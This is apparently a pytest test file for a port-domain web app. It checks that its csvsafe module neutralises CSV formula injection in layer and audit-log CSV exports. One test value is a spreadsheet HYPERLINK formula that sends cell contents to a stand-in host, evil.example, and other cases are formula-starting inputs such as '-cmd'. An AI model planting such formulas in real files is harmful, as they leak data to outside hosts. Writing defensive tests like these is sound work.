"""CSV injection (issue 24, point 6): every cell the project writes that a spreadsheet would take for a formula
comes out as text, in the layer CSV and the supervisors' audit CSV alike (portdomain/csvsafe.py)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pandas as pd
import psycopg
import pytest

from portdomain import csvsafe
from tests.conftest import sign_in

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.unit
@pytest.mark.parametrize(("value", "written"), [
    (FORMULA, "'" + FORMULA),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-cmd", "'-cmd"),
    ("-12.5", "-12.5"),            # a plain number is no formula
    ("+3", "+3"),
    ("EVER GIVEN", "EVER GIVEN"),
    (12, 12),
    (None, None),
])
def test_a_cell_that_starts_a_formula_is_neutralised(value: Any, written: Any) -> None:
    assert csvsafe.cell(value) == written


@pytest.mark.unit
def test_the_writers_and_frames_neutralise_every_cell() -> None:
    out = io.StringIO()
    csvsafe.Writer(out).writerows([["name", "=1"], [FORMULA, -3]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["name", "'=1"], ["'" + FORMULA, "-3"]]
    frame = csvsafe.frame(pd.DataFrame({"name": [FORMULA, "ok"], "sog": [-1.5, 2.0]}))
    back = list(csv.reader(io.StringIO(frame.to_csv(index=False))))
    assert back == [["name", "sog"], ["'" + FORMULA, "-1.5"], ["ok", "2.0"]]


@pytest.mark.browser
def test_the_layer_csv_and_the_audit_csv_carry_no_formula(browser: Any, app_url: str, db_url: str,
                                                          officers: dict[str, Any]) -> None:
    with psycopg.connect(db_url, autocommit=True) as conn:
        conn.execute("""INSERT INTO aton (mmsi, name, aid_type, geom, observed_at, source)
                        VALUES (992419999, %s, 1, ST_SetSRID(ST_MakePoint(119.21, 37.25), 4326), now(), 'test')
                        ON CONFLICT (mmsi) DO UPDATE SET name = EXCLUDED.name""", (FORMULA,))
        conn.execute("INSERT INTO audit_log (actor, action, object_kind, object_id) VALUES ('-cmd', 'search', "
                     "'search', %s)", (FORMULA,))
    context = browser.new_context()
    try:
        sign_in(context.new_page(), app_url, "super")
        layer = context.request.get(f"{app_url}/api/v1/layers/aton?format=csv")
        assert layer.status == 200
        rows = list(csv.DictReader(io.StringIO(layer.text())))
        names = [r["name"] for r in rows]
        assert "'" + FORMULA in names and FORMULA not in names
        audit = context.request.get(f"{app_url}/audit?format=csv&actor=-cmd")
        assert audit.status == 200
        cells = [c for line in csv.reader(io.StringIO(audit.text())) for c in line]
        assert "'-cmd" in cells and "'" + FORMULA in cells
        assert [c for c in cells if csvsafe.cell(c) != c] == []      # nothing left that would start a formula
    finally:
        context.close()
        with psycopg.connect(db_url, autocommit=True) as conn:
            conn.execute("DELETE FROM aton WHERE mmsi = 992419999")
